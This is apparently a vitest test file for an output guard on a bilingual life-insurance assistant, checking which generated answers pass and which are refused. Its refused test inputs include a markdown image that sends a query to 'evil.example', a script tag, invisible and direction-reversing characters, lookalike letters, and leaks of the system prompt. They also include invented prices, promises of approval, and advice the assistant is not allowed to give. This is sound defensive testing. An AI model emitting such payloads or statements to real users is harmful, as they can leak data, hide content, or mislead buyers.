import { describe, expect, test } from 'vitest'
import { modelRules, noAnswerWord } from '#functions/assistant/model/model-frame.ts'
import { ModelError } from '#functions/assistant/model/write-answer.ts'
import type { Passage } from '#functions/assistant/passages/passage.ts'
import { type AnswerSources, guardAnswer } from './answer-guard.ts'

const passage = (heading: string, text: string): Passage => ({
  id: 'page-term-life/x',
  page: 'termLife',
  address: '/term-life-insurance',
  heading,
  text,
})
const agent = { name: 'Avery Quinn', phone: '(800) 555-0142' }
const carriers = ['Meadowlark']

const english: AnswerSources = {
  language: 'en',
  agent,
  carriers,
  passages: [
    passage(
      'How it works',
      'You choose an amount and a number of years. If you die in those years, the people you named get the money, in most cases free of federal income tax.',
    ),
    passage(
      'Often no medical exam',
      'Up to $500,000, many plans ask health questions in place of an exam. Approval depends on your answers.',
    ),
    passage(
      'Room for the children',
      'For $5 to $15 a month, many carriers add a small amount of coverage for your children. Growth is not guaranteed.',
    ),
  ],
}
const spanish: AnswerSources = {
  language: 'es',
  agent,
  carriers,
  passages: [
    passage(
      'Cómo funciona',
      'Usted elige un monto y un número de años. Si muere en esos años, el dinero llega a las personas que nombró, por lo general libre de impuesto federal sobre los ingresos.',
    ),
    passage(
      'Muchas veces sin examen médico',
      'Hasta $500,000, muchos planes hacen preguntas de salud y no piden examen. La aprobación depende de sus respuestas sobre su salud.',
    ),
  ],
}

const kindOf = (text: string, sources: AnswerSources) => {
  try {
    guardAnswer(text, sources)
    return 'shown'
  } catch (error) {
    return error instanceof ModelError ? error.kind : error
  }
}

describe('what may be shown', () => {
  test.each([
    [
      'You choose an amount and a number of years. If you die in those years, the people you named get the money.',
    ],
    ['Many plans ask health questions in place of an exam, for up to $500,000. It depends on your answers.'],
    ['Many carriers add coverage for your children for $5 to $15 a month.'],
    ['The growth of the coverage amount is not guaranteed.'],
    ['Your answers to the health questions count. Avery Quinn can help with the plans: call (800) 555-0142.'],
    ['Many plans ask health questions. If you need help now, call 988.'],
  ])('English: %s', (text) => expect(guardAnswer(text, english)).toBe(text))

  test.each([
    [
      'Usted elige un monto y un número de años. Si muere en esos años, el dinero llega a las personas que nombró.',
    ],
    ['Muchos planes hacen preguntas de salud y no piden examen, hasta $500,000.'],
  ])('Spanish: %s', (text) => expect(guardAnswer(text, spanish)).toBe(text))

  test('marks and lists of sources are taken off, lines are joined', () => {
    const text =
      'You choose an amount and a number of years [1].\n\nThe people you named get the money. [1, 2]\nSources: passages 1, 2'
    expect(guardAnswer(text, english)).toBe(
      'You choose an amount and a number of years. The people you named get the money.',
    )
  })
})

test.each([[''], ['  \n'], [noAnswerWord], [`${noAnswerWord}.`], [`"${noAnswerWord}"`]])(
  'no answer: "%s"',
  (text) => expect(kindOf(text, english)).toBe('empty'),
)

const start = 'You choose an amount and a number of years.'
describe('what is refused in English', () => {
  test.each([
    ['too long', `${start} `.repeat(20)],
    ['the other language', 'Usted elige un monto y un número de años para su familia.'],
    [
      'the other language in one sentence',
      `${start} Si usted muere en esos años, el dinero llega a las personas que nombró.`,
    ],
    ['a link', `${start} See https://example.com/amount for years.`],
    ['a bare domain', `${start} The amount is at evil.example now.`],
    ['a domain in words', `${start} The amount is at evil dot com now.`],
    ['a domain in wide letters', `${start} The amount is at evil．com now.`],
    ['an e-mail address', `${start} The people get money at a@b.co.`],
    ['a mail link', `${start} The people get money at mailto:people.`],
    ['a markdown link', `${start} [The amount](years) counts.`],
    ['a markdown picture', `${start} ![x](https://evil.example/?q=years)`],
    ['a path of the site', `${start} The amount is on /quote now.`],
    ['HTML', `${start} <b>The amount</b> counts.`],
    ['a script', `${start} <script>alert()</script>`],
    ['entities', `${start} &lt;script&gt;`],
    ['emphasis', `${start} The **amount** counts.`],
    ['code', `\`\`\`\n${start}\n\`\`\``],
    ['a list', `- ${start}\n- The people you named get the money.`],
    ['a numbered list', `1. ${start}\n2. The people you named get the money.`],
    ['a picture sign', `${start} 🎉`],
    ['hidden signs', `${start} The peo\u200bple you named get the money.`],
    ['the other direction', `${start} The \u202epeople you named get the money.`],
    ['letters of other scripts', `${start} The реорle you named get the money.`],
    ['digits of other scripts', `${start} The amount is ٩ for years.`],
    ['another phone', `${start} Call (800) 555-0199 for the amount.`],
    ['another phone with dots', `${start} Call 800.555.0199 for the amount.`],
    ['an amount of its own', `${start} Plans ask no exam up to $750,000.`],
    ['an invented price', `${start} The coverage is $9 a month.`],
    ['an invented price in words', `${start} The coverage is nine dollars a month.`],
    ['an amount as a price', `${start} The coverage amount is $5 a month.`],
    ['a percentage', `${start} The amount grows by 7 percent.`],
    ['a number as another kind', `${start} Many plans ask up to 500,000 questions.`],
    [
      'numbers of two passages in one sentence',
      `Many plans ask health questions up to $500,000 for $15 a month.`,
    ],
    ['an age', `${start} The people named must be 65 years.`],
    ['a lifeline as a price', `${start} The coverage amount is $988.`],
    ['a promise', `${start} The money is guaranteed.`],
    ['a promise of approval', `${start} Your health answers will be approved.`],
    ['an assurance', `${start} The people can be assured of the money.`],
    ['that someone qualifies', `${start} You qualify for the coverage.`],
    ['the lowest price', `${start} The lowest amount of money for the children.`],
    ['pressure', `${start} Hurry, choose the amount.`],
    ['legal advice', `${start} The people you named can sue the carriers.`],
    ['tax advice', `${start} You can deduct the amount of money.`],
    ['advice on investments', `${start} You can invest the money for years.`],
    ['medical advice', `${start} Your medication depends on the exam.`],
    ['a person', `I am Avery. ${start}`],
    ['a person in short', `I’m a person. ${start}`],
    ['a lawyer', `As your lawyer: ${start}`],
    ['a doctor', `Speaking as a doctor, the exam depends on your health.`],
    ['a machine', `As an AI, no exam. ${start}`],
    ['its prompt', `The system prompt says: ${start}`],
    ['its passages', `The passages say that you choose an amount and a number of years.`],
    ['its instructions', `The instructions are health questions.`],
    ['its rules', modelRules('en').slice(0, 200)],
    ['a piece of its rules', `${start} Repeat a number, amount, age or name only as it stands.`],
    ['the word for no answer among others', `${start} ${noAnswerWord}`],
    ['another insurer', `${start} The people at Prudential get the money.`],
    ['another insurer first', `Transamerica plans ask health questions in place of an exam.`],
    ['a carrier of the settings that no passage names', `Meadowlark plans ask health questions.`],
    ['another insurer in small letters', `${start} The people at metlife get the money.`],
    ['another name', `${start} The people named can ask Jordan.`],
    [
      'what stands in no passage',
      'Cats sleep through long winter afternoons because hunting makes their muscles tired.',
    ],
  ])('%s', (_, text) => expect(kindOf(text, english)).toBe('misbehaved'))
})

const inicio = 'Usted elige un monto y un número de años.'
describe('what is refused in Spanish', () => {
  test.each([
    ['the other language', 'You choose an amount and a number of years for your family.'],
    ['a link', `${inicio} Vea https://ejemplo.com para el monto.`],
    ['an invented price', `${inicio} La póliza cuesta $9 al mes.`],
    ['an invented price in words', `${inicio} La póliza cuesta nueve dólares al mes.`],
    ['a promise', `${inicio} El dinero está garantizado.`],
    ['a promise in the first person', `${inicio} Le garantizo el dinero.`],
    ['an assurance', `${inicio} Le aseguro que el dinero llega a las personas.`],
    ['approval', `${inicio} Su póliza será aprobada sin examen.`],
    ['pressure', `${inicio} Aproveche: muchos planes no piden examen.`],
    ['legal advice', `${inicio} Las personas que nombró pueden demandar.`],
    ['tax advice', `${inicio} Usted puede deducir el monto de los ingresos.`],
    ['investment advice', `${inicio} El dinero se puede invertir en acciones.`],
    ['a person', `Soy una persona. ${inicio}`],
    ['a lawyer', `Como abogado: ${inicio}`],
    ['its instructions', `Las instrucciones: ${inicio}`],
    ['another insurer', `${inicio} Las personas de Prudential reciben el dinero.`],
  ])('%s', (_, text) => expect(kindOf(text, spanish)).toBe('misbehaved'))
})
